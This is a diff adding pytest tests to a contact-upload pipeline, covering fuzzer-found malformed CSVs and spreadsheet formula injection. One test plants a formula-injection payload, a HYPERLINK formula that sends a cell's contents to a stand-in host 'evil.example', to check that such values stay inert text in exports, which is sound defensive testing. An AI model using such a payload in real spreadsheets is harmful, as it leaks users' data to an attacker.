@@ -7,6 +7,7 @@ from __future__ import annotations
 
 import datetime as dt
 import io
+import json
 from pathlib import Path
 
 import duckdb
@@ -14,6 +15,7 @@ import polars as pl
 import pytest
 
 from pipelines.contact_uploads import UploadReport, load_uploads
+from pipelines.contact_uploads.reader import read_upload
 from pipelines.contact_uploads.sandbox import google_csv, outlook_csv, write_sandbox_uploads, xlsx
 from pipelines.contact_uploads.settings import CONTACT_COLUMNS, DATASET_NAME
 from pipelines.crm_app import app_schema
@@ -48,8 +50,12 @@ def _land(platform: Platform, name: str, data: bytes) -> Path:
 
 
 def _contacts(platform: Platform) -> list[tuple]:
+    return sorted(_contacts_rows(platform))
+
+
+def _contacts_rows(platform: Platform) -> list[tuple]:
     rows = decrypted(platform, DATASET_NAME, "uploaded_contacts", CONTACT_COLUMNS)
-    return sorted((r["first_name"], r["last_name"], r["email"], r["phone"]) for r in rows)
+    return [(r["first_name"], r["last_name"], r["email"], r["phone"]) for r in rows]
 
 
 def _quarantine(platform: Platform) -> list[tuple]:
@@ -187,3 +193,65 @@ def test_erasure_by_email_reaches_an_uploaded_contact_an_app_user_and_their_bill
                                     "raw_crm_app.billing_profiles": 1}
     assert _contacts(app.platform) == [("Bo", "Chen", "bo@example.com", None)]
     assert found_in_files(app.root, {"ann.lee@example.com", "Ann.Lee", "442079460018", "020 7946 0018", "cus_Z9"}) == {}
+
+
+def test_what_the_fuzzer_found_loads_row_by_row(platform: Platform) -> None:
+    """Each class of defect the upload fuzzer (test_fuzz_uploads.py) found, as one file: a file's own `_row`
+    column (the run crashed), BOM-less UTF-16 of ASCII text (read as UTF-8 full of NULs: every row invalid), and
+    a row with more fields than the header, a stray quote and a quote left open by a file cut short (each
+    rejected the whole file)."""
+    _land(platform, "ws_a/own-row-column.csv", b"_row,Email\n1,ann@example.com\n")
+    _land(platform, "ws_a/utf16be.csv", "Email,Name\nbo@example.com,Bo\n".encode("utf-16-be"))
+    _land(platform, "ws_a/ragged.csv", (
+        'Email,Name\n'
+        'cy@example.com,Cy\n'                 # row 2
+        'dee@example.com,Dee,Extra,More\n'    # row 3: more fields than the header
+        'eve@example.com\n'                   # row 4: fewer fields: padded, as spreadsheets save them
+        '"fay@example.com"x,Fay\n'            # row 5: a stray character after a closing quote
+        'gus@example.com,"Gus\n'              # row 6: a quote the cut left open swallows the rest
+        'hal@example.com,Hal\n').encode())
+    report = _load(platform, "ws_a")
+    assert (report.files_loaded, report.files_rejected, report.rows, report.contacts_loaded,
+            report.rows_quarantined) == (3, 0, 7, 4, 3)
+    assert _quarantine(platform) == [("ws_a/ragged.csv", 3, "ragged_row"), ("ws_a/ragged.csv", 5, "malformed_row"),
+                                     ("ws_a/ragged.csv", 6, "malformed_row")]
+    assert sorted(r[2] for r in _contacts_rows(platform)) == [
+        "ann@example.com", "bo@example.com", "cy@example.com", "eve@example.com"]
+    assert platform.query(f"SELECT source_file, encoding FROM {DATASET_NAME}.contact_upload_files ORDER BY 1") == [
+        ("ws_a/own-row-column.csv", "utf-8"), ("ws_a/ragged.csv", "utf-8"), ("ws_a/utf16be.csv", "utf-16-be")]
+
+
+def test_formula_looking_values_load_verbatim_and_the_access_export_keeps_them_as_text(app: AppPlatform) -> None:
+    """Spreadsheet formula injection (=, +, -, @ first): such values are the person's data as they gave it (a
+    phone starts with +, a name with -), so they are neither quarantined nor altered when stored; the access
+    export is JSON, where they are strings a spreadsheet does not evaluate (see the README's uploads section)."""
+    t0 = dt.datetime(2026, 11, 1, tzinfo=dt.timezone.utc)
+    app.execute(app_schema.workspaces.insert(), [{"workspace_id": "ws_a", "name": "A", "plan": "growth", "seats": 3,
+                                                  "default_region": "US", "created_at": t0, "updated_at": t0}])
+    app.sync()
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    _land(app.platform, "ws_a/list.csv", (
+        "Email,Mobile Phone,First Name,Last Name,Company\n"
+        f'ann@example.com,+1 202 555 0143,"{formula.replace(chr(34), chr(34) * 2)}",-Lee-,@SUM(1+1)\n').encode())
+    with app.platform.keyring() as cipher:
+        report = load_uploads(app.root / "landing" / "contacts", cipher, warehouse_path=app.platform.warehouse,
+                              dlt_dir=app.platform.dlt_dir, work_dir=app.platform.work_dir,
+                              known_workspaces=app.platform.known_workspaces())
+    assert (report.contacts_loaded, report.rows_quarantined) == (1, 0)
+    app.inbox.submit(Request("access", "ws_a", "email", "ann@example.com"))
+    with app.platform.keyring() as cipher, duckdb.connect(str(app.platform.warehouse)) as con:
+        process_pending(con, cipher, app.inbox, AuditLog.of(app.root / "privacy" / "audit.jsonl", cipher),
+                        exports_dir=app.root / "exports", landing_urls={})
+    (export,) = (app.root / "exports").glob("*.json")
+    (row,) = json.loads(export.read_text())["tables"]["raw_contact_uploads.uploaded_contacts"]
+    assert (row["first_name"], row["last_name"], row["company"], row["phone"]) == (
+        formula, "-Lee-", "@SUM(1+1)", "+12025550143")
+
+
+def test_a_file_read_record_by_record_takes_its_header_as_polars_does() -> None:
+    """The record-by-record reading (a file polars cannot take whole) skips blank lines before the header and
+    keeps the first of duplicate headers, as the polars reading does."""
+    upload = read_upload("list.csv", b"\n\nEmail,Email,Name\nann@example.com,x@example.com,Ann,extra\n"
+                                     b"bo@example.com,y@example.com,Bo\n")
+    assert upload.frame.rows() == [(2, "ragged_row", None, None), (3, None, "bo@example.com", "Bo")]
+    assert upload.frame.columns == ["_row", "_read_reason", "email", "full_name"]
